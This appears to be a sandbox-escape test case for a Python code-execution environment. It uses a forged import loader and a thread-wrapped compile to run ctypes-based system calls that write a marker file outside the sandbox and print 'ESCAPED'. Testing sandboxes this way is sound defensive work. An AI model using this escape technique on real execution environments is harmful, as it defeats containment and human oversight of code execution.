# A loader of the cell's own, run by the import system after a library file was read.
# expect: any
import sys
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(1)
call = lambda function, *arguments, **keywords: pool.submit(function, *arguments, **keywords).result()
builtin = vars(sys.modules["builtins"])

import ctypes, os
external, bootstrap = sys.modules["_frozen_importlib_external"], sys.modules["_frozen_importlib"]
library = os.__file__
text = "import ctypes; ctypes.memmove(0, 0, 0); ctypes.CDLL(None).system(b'touch %s/evil'); print('ESCAPED')" % outside
code = call(builtin["compile"], text, library, "exec")
Loader = type("Loader", (external.SourceFileLoader,), {"get_code": lambda self, name: code})
loader = Loader("evil", library)
loader.get_data(library)
spec = bootstrap.ModuleSpec("evil", loader, origin=library)
bootstrap._load(spec)
